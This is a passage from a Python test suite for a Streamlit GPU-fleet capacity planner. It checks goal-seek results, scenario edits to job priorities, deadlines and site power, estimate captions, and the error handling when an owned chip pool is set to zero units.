    _open(at, scenario_dir, "e-portfolio.yaml", JOBS_RENT)
    _by_label(_more(at).button, "Compare strategy modes").click().run()
    _by_label(at.tabs[TABS.index("Estimate")].button, "Estimate").click().run()
    assert _more(at).dataframe and at.tabs[TABS.index("Estimate")].metric
    at.sidebar.selectbox[0].select_index(at.sidebar.selectbox[0].options.index("a-small.yaml")).run()
    _no_traceback(at)
    assert not _more(at).dataframe and not at.tabs[TABS.index("Estimate")].metric
    assert not any("changed since this" in w.value for tab in at.tabs for w in tab.warning)


def test_goal_seek_on_a_portfolio_seeks_for_the_job_chosen_by_its_deadline(at, scenario_dir):
    import datetime as dt

    from planner.decide.solve import solve

    _open(at, scenario_dir, "e-portfolio.yaml", JOBS_RENT)
    _by_label(_more(at).selectbox, "Job that must finish by the date").set_value("first").run()
    assert _by_label(_more(at).date_input, "Finish by").value == dt.date(2025, 3, 20)  # the job's own deadline
    _seek(at, replications=1, largest=256)
    want = solve(from_dict(JOBS_RENT), "fleet[1].cloud.units", dt.date(2025, 3, 20), quantile=0.9, high=256,
                 replications=1, job="first")
    assert want["found"]
    cards = {_plain(m.label): m.value for m in _more(at).metric}
    assert cards["fleet[1].cloud.units"] == f"{want['value']:,}"
    assert cards["first: finish date (P90)"] == want["finish_date"]
    assert cards["first: cost (P50)"] == fmt_usd(want["cost_usd"])
    (success,) = _more(at).success
    assert "job first finishes" in _plain(success.value)


def test_the_goal_seeks_largest_value_follows_an_edit(at, scenario_dir):
    _open_rent(at, scenario_dir)
    assert _by_label(_more(at).number_input, "Largest value to try").value == 4 * 32  # 4x the file's rental
    at.sidebar.slider[0].set_value(2.0).run()  # the rental doubled: the run's scenario rents 64
    assert _by_label(_more(at).number_input, "Largest value to try").value == 4 * 64


def test_the_chip_hours_card_shows_the_number_under_its_label():
    summary = api.simulate(from_dict(SMALL), replications=1, seed=3).summary
    (card,) = [c for c in _load_app().headline_cards(summary) if c.key == "chip_hours"]
    assert card.label.startswith("Chip-hours") and not card.value.endswith("chip-h")
    assert card.value == next(h.value for h in headline_items(summary) if h.key == "chip_hours").removesuffix(" chip-h")


def test_the_edit_tab_sets_a_jobs_priority_deadline_and_start_and_a_sites_power(tmp_path, monkeypatch):
    """App review: a portfolio's job priorities, deadlines, start dates and its sites' power had no control.

    Each is a field-path edit the Scenario tab shows, re-validated; a power grid's rows come back in date order.
    """
    at = _portfolio_app(tmp_path, monkeypatch)
    edit = _edit(at)
    prio = [n for n in edit.number_input if n.label == "Priority (1 first)"]
    assert [n.value for n in prio] == [1, 2]
    prio[1].set_value(1).run()
    deadline = [d for d in _edit(at).date_input if d.label == "Deadline (blank: none)"]
    assert [d.value for d in deadline] == [dt.date(2025, 2, 15), None]
    deadline[1].set_value(dt.date(2025, 3, 1)).run()
    after = [d for d in _edit(at).date_input if d.label == "Start after (blank: the start)"]
    after[1].set_value(None).run()
    pue = [n for n in _edit(at).number_input if n.label == "PUE"]
    pue[0].set_value(1.1).run()
    _no_traceback(at)
    assert not _errors(at)
    shown = _shown_scenario(at)
    small = shown["jobs"][1]
    assert small["priority"] == 1 and str(small["deadline"]) == "2025-03-01" and small.get("start_after") is None
    assert shown["sites"][0]["pue"] == 1.1
    app = _load_app()
    loaded = from_dict(PORTFOLIO)
    moved = whatif.set_power(loaded, 0, [{"date": dt.date(2025, 3, 1), "mw": 2.0},
                                         {"date": dt.date(2025, 1, 1), "mw": 0.2}, {"date": None, "mw": None}])
    assert [(str(p.date), p.mw) for p in moved.sites[0].power_mw] == [("2025-01-01", 0.2), ("2025-03-01", 2.0)]
    with pytest.raises(ScenarioError, match=r"sites\[0\]\.power_mw\[1\]"):  # the row as the grid shows it
        whatif.set_power(loaded, 0, [{"date": dt.date(2025, 1, 1), "mw": 0.2}, {"date": dt.date(2025, 3, 1),
                                                                               "mw": -1.0}])
    assert app.whatif is whatif


def test_the_estimate_tab_says_what_the_cli_adds_beside_the_figures(at):
    """The combined line's failure-free note and an MFU past 100% reach the tab, as `planner estimate` says them."""
    long = {**SMALL, "name": "long-seq",
            "workload": {"model": {"layers": 16, "hidden": 2048, "heads": 16, "kv_heads": 16, "ffn_hidden": 5632,
                                   "vocab": 32000}, "tokens": 1.0e12, "seq_len": 131072,
                         "global_batch_tokens": 16777216},
            "fleet": [{"name": "p", "chip": "h100-sxm", "units": 128, "stack": "optimized", "efficiency": 2}]}
    _upload(at, "long.yaml", long)
    at.tabs[TABS.index("Estimate")].button[0].click().run()
    _no_traceback(at)
    captions = [_plain(c.value) for c in at.tabs[TABS.index("Estimate")].caption]
    assert any("without the causal mask" in c for c in captions), captions


def test_an_owned_pool_set_to_no_chips_is_not_applied_and_the_tab_goes_on(at):
    """An owned pool with no delivery set to 0 units: the edit is not applied, and the tab goes on.

    Review: the edit dropped the pool from the edited scenario (as a sweep's point does) and the tab's later
    fields indexed past the fleet: an internal error, a blank page.
    """
    doc = {**SMALL, "name": "zero-owned",
           "fleet": [{"name": "owned-h100", "chip": "h100-sxm", "units": 64}, SMALL["fleet"][1]]}
    _upload(at, "zero-owned.yaml", doc)
    units = [n for n in _edit(at).number_input if n.label == "Units on day 0"]
    units[0].set_value(0).run()
    _no_traceback(at)
    assert any("pool has no chips" in e for e in _errors(at)), _errors(at)
    assert not any("internal error" in e for e in _errors(at))
    assert _shown_scenario(at)["fleet"][0]["units"] == 64  # (the edit is not applied)
